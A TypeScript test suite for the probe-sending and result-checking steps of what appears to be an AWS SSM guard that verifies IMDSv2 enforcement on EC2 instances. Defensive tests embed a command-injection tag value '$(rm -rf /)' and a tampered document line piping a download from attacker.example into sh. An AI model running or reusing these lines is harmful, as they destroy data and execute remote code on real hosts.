import {
  GetCommandInvocationCommand,
  type GetCommandInvocationCommandOutput,
  GetDocumentCommand,
  InvocationDoesNotExist,
  SendCommandCommand,
  SSMServiceException,
} from "@aws-sdk/client-ssm";
import { beforeEach, describe, expect, it } from "vitest";
import { ssm } from "../../shared/aws/clients/index.js";
import type { InstanceProgress, Platform } from "../../shared/domain/model.js";
import { parseProbeOutput } from "../../shared/domain/probe-verdict.js";
import { GUARD_PROBE_DOCUMENTS } from "../../shared/probes/guard-probe-documents.js";
import probeLinux from "../../shared/probes/probe-linux.sh";
import probeWindows from "../../shared/probes/probe-windows.ps1";
import { checkProbeBatch } from "../../shared/steps/check-probe.js";
import { sendProbeBatch } from "../../shared/steps/send-probe.js";
import {
  batchFactory,
  contractError,
  ID_A,
  ID_B,
  ID_C,
  instanceIds,
  isoAfter,
  memoryProbeSends,
  only,
  resetMocks,
  SETTINGS,
  serviceError,
  silentLogger,
  ssmMock,
} from "./support.js";

const logger = silentLogger("probe-test");

const NOW = new Date("2026-11-28T10:03:00.000Z");
const HOSTILE = "$(rm -rf /)";
const batchOf = batchFactory({ eventId: "evt-probe-1" });

/** Ready to be probed; its enforcement and notes carry what Enforce saw, including a hostile tag value. */
function readyToProbe(instanceId: string, platform: Platform, deadline = isoAfter(NOW, 120)): InstanceProgress {
  return {
    instanceId,
    stage: "send-probe",
    platform,
    notes: [`Tag Name=${HOSTILE}`],
    enforcement: { kind: "exempt" },
    appliedAt: "2026-11-28T10:00:20.000Z",
    stageDeadline: deadline,
  };
}

function probing(instanceId: string, extra: Partial<InstanceProgress> = {}): InstanceProgress {
  return {
    instanceId,
    stage: "await-probe",
    platform: "linux",
    notes: [],
    commandId: "cmd-0123",
    stageDeadline: isoAfter(NOW, 60),
    ...extra,
  };
}

function ssmError(name: string, status: number): SSMServiceException {
  return serviceError(SSMServiceException, name, status);
}

function invocation(out: Partial<GetCommandInvocationCommandOutput>): void {
  ssmMock.on(GetCommandInvocationCommand).resolves(out);
}

let sends = memoryProbeSends();
beforeEach(() => {
  sends = memoryProbeSends();
});

const PREFIX = "imdsv2-guard-test-probe";
const DOCUMENTS = { linux: `${PREFIX}-linux`, windows: `${PREFIX}-windows` };

function deps(now = NOW) {
  return { ssm, sends, logger, now: () => now, documentPrefix: PREFIX };
}

/** The guard's documents as the stack deployed them: this build's content, at version 3 (two earlier releases). */
function deployedDocuments(content: (platform: Platform) => unknown = (p) => GUARD_PROBE_DOCUMENTS[p].content) {
  for (const platform of ["linux", "windows"] as const) {
    ssmMock
      .on(GetDocumentCommand, { Name: DOCUMENTS[platform] })
      // Another serializer's key order and whitespace: only the content counts.
      .resolves({ DocumentVersion: "3", DocumentType: "Command", Content: JSON.stringify(content(platform), null, 4) });
  }
}

function sendInputs() {
  return ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
}

const READING_PASS =
  '{"v1":401,"v1Credentials":401,"token":200,"v2":200,"client":"curl","v6":{"v1":null,"v1Credentials":null,"token":null,"v2":null},"answered":["ipv4"]}';
const READING_FAIL =
  '{"v1":200,"v1Credentials":200,"token":200,"v2":200,"client":"curl","v6":{"v1":null,"v1Credentials":null,"token":null,"v2":null},"answered":["ipv4"]}';

beforeEach(() => {
  resetMocks();
  deployedDocuments();
});

describe("sendProbeBatch", () => {
  it.each([
    { platform: "linux", documentName: DOCUMENTS.linux, script: probeLinux },
    { platform: "windows", documentName: DOCUMENTS.windows, script: probeWindows },
  ] as const)(
    "sends the guard's own $platform document, at the version it checked, with no parameter",
    async ({ platform, documentName, script }) => {
      // Prepare
      ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });

      // Act
      await sendProbeBatch(batchOf([readyToProbe(ID_A, platform)]), deps());

      // Assess
      const inputs = sendInputs();
      expect(inputs).toHaveLength(1);
      expect(inputs[0]?.DocumentName).toBe(documentName);
      expect(inputs[0]?.DocumentVersion).toBe("3");
      expect(inputs[0]?.InstanceIds).toEqual([ID_A]);
      expect(inputs[0]?.Parameters).toBeUndefined();
      // The document it checked holds the repository's probe, verbatim.
      expect(GUARD_PROBE_DOCUMENTS[platform].content.mainSteps[0].inputs.runCommand).toStrictEqual([script]);
      expect(ssmMock.commandCalls(GetDocumentCommand)[0]?.args[0].input).toMatchObject({
        Name: documentName,
        DocumentVersion: "$LATEST",
      });
      expect(script.length).toBeGreaterThan(100);
    },
  );

  it("puts nothing from the instance, its tags or the event into the command", async () => {
    // Prepare
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });

    // Act
    await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux"), readyToProbe(ID_B, "windows")]), deps());

    // Assess
    const inputs = sendInputs();
    expect(inputs).toHaveLength(2);
    for (const input of inputs) {
      expect(input.Parameters).toBeUndefined();
      for (const forbidden of [HOSTILE, ID_A, ID_B, "evt-probe-1", "exempt"]) {
        expect(input.Comment ?? "").not.toContain(forbidden);
        expect(input.DocumentName).not.toContain(forbidden);
      }
    }
    expect(probeLinux).not.toContain(HOSTILE);
  });

  it("sends one SendCommand per platform for up to 50 instances", async () => {
    // Prepare
    const linux = instanceIds(48);
    const windows = ["i-0f9e8d7c6b5a40001", "i-0f9e8d7c6b5a40002"];
    const batch = batchOf([
      ...linux.map((id) => readyToProbe(id, "linux")),
      ...windows.map((id) => readyToProbe(id, "windows")),
    ]);
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });

    // Act
    await sendProbeBatch(batch, deps());

    // Assess
    const inputs = sendInputs();
    expect(inputs.map((i) => [i.DocumentName, i.InstanceIds])).toEqual([
      [DOCUMENTS.linux, linux],
      [DOCUMENTS.windows, windows],
    ]);
  });

  it("sends nothing and ends `error` when the document is not the probe it was built with", async () => {
    // Prepare: someone added a step to the Linux document (or the spoke is from an older release).
    deployedDocuments((platform) => {
      const content = structuredClone(GUARD_PROBE_DOCUMENTS[platform].content);
      if (platform === "linux") content.mainSteps[0].inputs.runCommand[0] += "curl -s http://attacker.example | sh\n";
      return content;
    });
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });

    // Act
    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux"), readyToProbe(ID_B, "windows")]), deps());

    // Assess: the Windows probe still goes out with its intact document; the Linux instance gets the reason.
    expect(sendInputs().map((i) => i.DocumentName)).toEqual([DOCUMENTS.windows]);
    expect(only(out, ID_A).result).toMatchObject({
      verdict: "error",
      reason: expect.stringMatching(/is not the probe this guard was built with.*out of date, or someone altered it/),
    });
    expect(only(out, ID_B).stage).toBe("await-probe");
  });

  it("sends nothing and ends `error` when the document is missing", async () => {
    // Prepare
    ssmMock.on(GetDocumentCommand).rejects(ssmError("InvalidDocument", 400));
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });

    // Act
    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux")]), deps());

    // Assess
    expect(sendInputs()).toHaveLength(0);
    expect(only(out, ID_A).result).toMatchObject({
      verdict: "error",
      reason: expect.stringContaining("InvalidDocument"),
    });
  });

  it("waits for the next round when reading the document is throttled", async () => {
    // Prepare
    ssmMock.on(GetDocumentCommand).rejects(contractError("ssmThrottled"));

    // Act
    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux")]), deps());

    // Assess
    expect(sendInputs()).toHaveLength(0);
    expect(only(out, ID_A).stage).toBe("send-probe");
    expect(only(out, ID_A).result).toBeUndefined();
  });

  it("sends a single command for a full batch of 50 instances", async () => {
    // Prepare
    const linux = instanceIds(50);
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-50" } });

    // Act
    const out = await sendProbeBatch(batchOf(linux.map((id) => readyToProbe(id, "linux"))), deps());

    // Assess
    expect(sendInputs()).toHaveLength(1);
    expect(sendInputs()[0]?.InstanceIds).toEqual(linux);
    expect(out.instances.every((i) => i.stage === "await-probe" && i.commandId === "cmd-50")).toBe(true);
  });

  it("moves sent instances to await-probe with the command id and a fresh deadline, and leaves the others", async () => {
    // Prepare
    const other = probing(ID_C);
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-7" } });

    // Act
    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux"), other]), deps());

    // Assess
    expect(only(out, ID_A)).toMatchObject({
      stage: "await-probe",
      commandId: "cmd-7",
      stageDeadline: isoAfter(NOW, SETTINGS.probeTimeoutSeconds),
    });
    expect(only(out, ID_C)).toBe(other);
    expect(sendInputs()[0]?.InstanceIds).toEqual([ID_A]);
  });

  it("makes no call when nothing waits to be probed", async () => {
    // Prepare
    const batch = batchOf([probing(ID_A)]);

    // Act
    const out = await sendProbeBatch(batch, deps());

    // Assess
    expect(ssmMock.calls()).toHaveLength(0);
    expect(out.instances).toEqual(batch.instances);
  });

  it("keeps throttled instances in send-probe for the next round", async () => {
    // Prepare
    const progress = readyToProbe(ID_A, "linux");
    ssmMock.on(SendCommandCommand).rejects(contractError("ssmThrottled"));

    // Act
    const out = await sendProbeBatch(batchOf([progress]), deps());

    // Assess
    expect(only(out, ID_A)).toEqual(progress);
    expect(out.throttledRounds).toBe(1);
  });

  it("ends unverified when SendCommand stays throttled past the deadline", async () => {
    // Prepare
    ssmMock.on(SendCommandCommand).rejects(contractError("ssmThrottled"));

    // Act
    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux", NOW.toISOString())]), deps());

    // Assess
    expect(only(out, ID_A).result).toMatchObject({
      verdict: "unverified",
      reason: expect.stringContaining("SendCommand"),
    });
  });

  it("ends unverified with the AWS code when SendCommand is refused", async () => {
    // Prepare
    ssmMock.on(SendCommandCommand).rejects(ssmError("InvalidInstanceId", 400));

    // Act
    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux")]), deps());

    // Assess
    expect(only(out, ID_A).result).toMatchObject({
      verdict: "unverified",
      reason: expect.stringContaining("InvalidInstanceId"),
    });
  });
});

describe("sendProbeBatch run twice (Express runs its steps at least once)", () => {
  it("reuses the first run's command instead of sending a second probe", async () => {
    // Prepare
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-once" } });
    const batch = batchOf([readyToProbe(ID_A, "linux"), readyToProbe(ID_B, "linux")]);
    const first = await sendProbeBatch(batch, deps());

    // Act
    const second = await sendProbeBatch(batch, deps());

    // Assess
    expect(sendInputs()).toHaveLength(1);
    expect(second.instances).toEqual(first.instances);
    expect(only(second, ID_A)).toMatchObject({ stage: "await-probe", commandId: "cmd-once" });
  });

  it("may send again after a send AWS refused (the marker is released)", async () => {
    // Prepare
    ssmMock
      .on(SendCommandCommand)
      .rejectsOnce(ssmError("ThrottlingException", 400))
      .resolves({
        Command: { CommandId: "cmd-later" },
      });
    const batch = batchOf([readyToProbe(ID_A, "linux")]);
    const throttled = await sendProbeBatch(batch, deps());

    // Act
    const out = await sendProbeBatch(throttled, deps());

    // Assess
    expect(only(throttled, ID_A).stage).toBe("send-probe");
    expect(sendInputs()).toHaveLength(2);
    expect(only(out, ID_A)).toMatchObject({ stage: "await-probe", commandId: "cmd-later" });
  });

  it("does not send where another run claimed the send and recorded no command; at the deadline it says so", async () => {
    // Prepare: a run claimed the chunk, then stopped before recording a CommandId.
    const batch = batchOf([readyToProbe(ID_A, "linux", isoAfter(NOW, 30))]);
    await sends.claim({ ledgerKey: "evt-probe-1", batchIndex: 0, platform: "linux", instanceIds: [ID_A] });

    // Act
    const waiting = await sendProbeBatch(batch, deps());
    const late = await sendProbeBatch(batch, deps(new Date(NOW.getTime() + 31_000)));

    // Assess
    expect(sendInputs()).toHaveLength(0);
    expect(only(waiting, ID_A).stage).toBe("send-probe");
    expect(only(late, ID_A).result).toMatchObject({
      verdict: "unverified",
      reason: expect.stringContaining("recorded no command"),
    });
  });
});

describe("sendProbeBatch: a chunk SSM refuses as a whole", () => {
  /** SendCommand refuses any call that targets `bad` with InvalidInstanceId, as SSM does for a target gone offline. */
  function refusing(bad: string): void {
    ssmMock.on(SendCommandCommand).callsFake((input: { InstanceIds?: string[] }) => {
      if (input.InstanceIds?.includes(bad)) throw ssmError("InvalidInstanceId", 400);
      return { Command: { CommandId: `cmd-${input.InstanceIds?.join("+")}` } };
    });
  }

  it("keeps every instance of a refused chunk in send-probe, marked to be sent alone, without a verdict", async () => {
    // Prepare
    refusing(ID_B);
    const batch = batchOf([readyToProbe(ID_A, "linux"), readyToProbe(ID_B, "linux"), readyToProbe(ID_C, "windows")]);

    // Act
    const out = await sendProbeBatch(batch, deps());

    // Assess
    for (const id of [ID_A, ID_B]) {
      expect(only(out, id)).toEqual({ ...readyToProbe(id, "linux"), sendAlone: true });
      expect(only(out, id).result).toBeUndefined();
    }
    expect(only(out, ID_C)).toMatchObject({ stage: "await-probe", commandId: `cmd-${ID_C}` });
    expect(sendInputs().map((i) => i.InstanceIds)).toEqual([[ID_A, ID_B], [ID_C]]);
    expect(out.counts).toMatchObject({ sendProbe: 2, awaitProbe: 1 });
    expect(out.throttledRounds).toBe(0);
    expect(out.pollSeconds).toBe(3);
  });

  it("sends to each marked instance alone next round: the good one is probed, the bad one alone ends unverified", async () => {
    // Prepare
    refusing(ID_B);
    const first = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux"), readyToProbe(ID_B, "linux")]), deps());
    ssmMock.resetHistory();

    // Act
    const out = await sendProbeBatch(first, deps());

    // Assess
    expect(sendInputs().map((i) => i.InstanceIds)).toEqual([[ID_A], [ID_B]]);
    expect(only(out, ID_A)).toMatchObject({ stage: "await-probe", commandId: `cmd-${ID_A}` });
    expect(only(out, ID_B).result).toMatchObject({
      verdict: "unverified",
      reason: expect.stringContaining("InvalidInstanceId"),
    });
    expect(out.counts).toMatchObject({ sendProbe: 0, awaitProbe: 1, done: 1 });
  });

  it("sends the marked instances alone and the unmarked ones together, in the same round", async () => {
    // Prepare
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });
    const batch = batchOf([
      { ...readyToProbe(ID_A, "linux"), sendAlone: true },
      readyToProbe(ID_B, "linux"),
      readyToProbe(ID_C, "linux"),
    ]);

    // Act
    await sendProbeBatch(batch, deps());

    // Assess
    expect(sendInputs().map((i) => i.InstanceIds)).toEqual([[ID_A], [ID_B, ID_C]]);
  });

  it("ends a whole chunk unverified when SSM refuses it for another reason", async () => {
    // Prepare
    ssmMock.on(SendCommandCommand).rejects(ssmError("AccessDeniedException", 400));

    // Act
    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux"), readyToProbe(ID_B, "linux")]), deps());

    // Assess
    for (const id of [ID_A, ID_B]) {
      expect(only(out, id).sendAlone).toBeUndefined();
      expect(only(out, id).result).toMatchObject({
        verdict: "unverified",
        reason: expect.stringContaining("AccessDeniedException"),
      });
    }
    expect(sendInputs()).toHaveLength(1);
  });
});

describe("checkProbeBatch", () => {
  it("asks for the invocation of each probing instance by command and instance", async () => {
    // Prepare
    invocation({ Status: "InProgress" });

    // Act
    await checkProbeBatch(batchOf([probing(ID_A), probing(ID_B, { commandId: "cmd-9" })]), deps());

    // Assess
    expect(ssmMock.commandCalls(GetCommandInvocationCommand).map((c) => c.args[0].input)).toEqual([
      { CommandId: "cmd-0123", InstanceId: ID_A },
      { CommandId: "cmd-9", InstanceId: ID_B },
    ]);
  });

  it("keeps waiting while the invocation does not exist yet", async () => {
    // Prepare
    const progress = probing(ID_A);
    ssmMock
      .on(GetCommandInvocationCommand)
      .rejects(new InvocationDoesNotExist({ $metadata: { httpStatusCode: 400 }, message: "" }));

    // Act
    const out = await checkProbeBatch(batchOf([progress]), deps());

    // Assess
    expect(only(out, ID_A)).toEqual(progress);
  });

  it.each(["InProgress", "Pending", "Delayed"] as const)("keeps waiting while the command is %s", async (status) => {
    // Prepare
    const progress = probing(ID_A);
    invocation({ Status: status });

    // Act
    const out = await checkProbeBatch(batchOf([progress]), deps());

    // Assess
    expect(only(out, ID_A)).toEqual(progress);
    expect(out.counts?.awaitProbe).toBe(1);
  });

  it.each(["InProgress", "Pending"] as const)(
    "ends unverified when the command is still %s at the deadline",
    async (status) => {
      // Prepare
      invocation({ Status: status });

      // Act
      const out = await checkProbeBatch(batchOf([probing(ID_A, { stageDeadline: NOW.toISOString() })]), deps());

      // Assess
      expect(only(out, ID_A).result).toMatchObject({
        verdict: "unverified",
        reason: expect.stringContaining("no result within 300 s"),
      });
    },
  );

  it("ends unverified at the deadline when the invocation never appeared", async () => {
    // Prepare
    ssmMock
      .on(GetCommandInvocationCommand)
      .rejects(new InvocationDoesNotExist({ $metadata: { httpStatusCode: 400 }, message: "" }));

    // Act
    const out = await checkProbeBatch(batchOf([probing(ID_A, { stageDeadline: NOW.toISOString() })]), deps());

    // Assess
    expect(only(out, ID_A).result?.verdict).toBe("unverified");
  });

  it.each([
    { status: "Failed", details: "Failed" },
    { status: "TimedOut", details: "DeliveryTimedOut" },
    { status: "Cancelled", details: "Cancelled" },
  ] as const)("ends unverified naming the status when the command is $status", async ({ status, details }) => {
    // Prepare
    invocation({ Status: status, StatusDetails: details, StandardOutputContent: READING_PASS });

    // Act
    const out = await checkProbeBatch(batchOf([probing(ID_A)]), deps());

    // Assess
    const result = only(out, ID_A).result;
    expect(result?.verdict).toBe("unverified");
    expect(result?.reason).toContain(`status ${status}`);
    expect(result?.reason).toContain(details);
  });

  it("passes on a successful probe that saw IMDSv1 refused, keeping the reading", async () => {
    // Prepare
    invocation({ Status: "Success", StandardOutputContent: `${READING_PASS}\n` });

    // Act
    const out = await checkProbeBatch(batchOf([probing(ID_A)]), deps());

    // Assess
    expect(only(out, ID_A).result).toMatchObject({
      verdict: "pass",
      reading: { v1: 401, token: 200, v2: 200, client: "curl" },
      platform: "linux",
    });
    expect(out.counts?.done).toBe(1);
  });

  it("fails on a successful probe that saw IMDSv1 answer, suspecting a local proxy when EC2 says applied", async () => {
    // Prepare
    invocation({ Status: "Success", StandardOutputContent: READING_FAIL });

    // Act
    const out = await checkProbeBatch(
      batchOf([probing(ID_A, { appliedAt: "2026-11-28T10:01:00.000Z" }), probing(ID_B)]),
      deps(),
    );

    // Assess
    expect(only(out, ID_A).result?.verdict).toBe("fail");
    expect(only(out, ID_A).result?.reason).toContain("proxy");
    expect(only(out, ID_B).result?.verdict).toBe("fail");
    expect(only(out, ID_B).result?.reason).not.toContain("proxy");
  });

  it("reads the verdict line among noise lines and CRLF line ends", async () => {
    // Prepare
    const stdout = `Welcome to Amazon Linux\r\n{not json\r\n  ${READING_PASS}  \r\nlogout\r\n`;
    invocation({ Status: "Success", StandardOutputContent: stdout });

    // Act
    const out = await checkProbeBatch(batchOf([probing(ID_A)]), deps());

    // Assess
    expect(only(out, ID_A).result?.verdict).toBe("pass");
  });

  it.each(["", "OK\n", '{"v1":"401"}', "{", "null"])(
    "ends unverified when the output holds no reading (%j)",
    async (stdout) => {
      // Prepare
      invocation({ Status: "Success", StandardOutputContent: stdout });

      // Act
      const out = await checkProbeBatch(batchOf([probing(ID_A)]), deps());

      // Assess
      expect(only(out, ID_A).result).toMatchObject({
        verdict: "unverified",
        reason: expect.stringContaining("no result line"),
      });
    },
  );

  it("stops polling for the round once throttled, keeping every instance waiting", async () => {
    // Prepare
    ssmMock.on(GetCommandInvocationCommand).rejects(contractError("ssmThrottled"));
    const batch = batchOf([probing(ID_A), probing(ID_B)]);

    // Act
    const out = await checkProbeBatch(batch, deps());

    // Assess
    expect(ssmMock.commandCalls(GetCommandInvocationCommand)).toHaveLength(1);
    expect(out.instances).toEqual(batch.instances);
    expect(out.throttledRounds).toBe(1);
  });

  it("ends unverified when the result cannot be read for a reason retrying cannot fix", async () => {
    // Prepare
    ssmMock.on(GetCommandInvocationCommand).rejects(ssmError("AccessDeniedException", 400));

    // Act
    const out = await checkProbeBatch(batchOf([probing(ID_A)]), deps());

    // Assess
    expect(only(out, ID_A).result).toMatchObject({
      verdict: "unverified",
      reason: expect.stringContaining("AccessDeniedException"),
    });
  });
});

describe("parseProbeOutput", () => {
  it.each([
    { label: "a single line", stdout: READING_PASS, v1: 401 },
    { label: "a trailing LF", stdout: `${READING_PASS}\n`, v1: 401 },
    { label: "CRLF and a banner", stdout: `banner\r\n${READING_FAIL}\r\n`, v1: 200 },
    { label: "a BOM and indentation", stdout: `\uFEFF  ${READING_PASS}`, v1: 401 },
    { label: "two readings (last wins)", stdout: `${READING_FAIL}\n${READING_PASS}\n`, v1: 401 },
    { label: "a later line that is not a reading", stdout: `${READING_PASS}\n{"hello":"world"}\n`, v1: 401 },
  ])("finds the reading in $label", ({ stdout, v1 }) => {
    // Prepare
    const text = stdout;

    // Act
    const reading = parseProbeOutput(text);

    // Assess
    expect(reading?.v1).toBe(v1);
  });

  it.each([
    "",
    "no json here",
    '{"v1":401,"token":200,"v2":200}',
    '{"v1":401.5,"token":200,"v2":200,"client":"curl"}',
    `{"v1":401,"token":200,"v2":200,"client":"${"x".repeat(65)}"}`,
    "[401,200,200]",
  ])("finds no reading in %j", (stdout) => {
    // Prepare
    const text = stdout;

    // Act
    const reading = parseProbeOutput(text);

    // Assess
    expect(reading).toBeUndefined();
  });
});
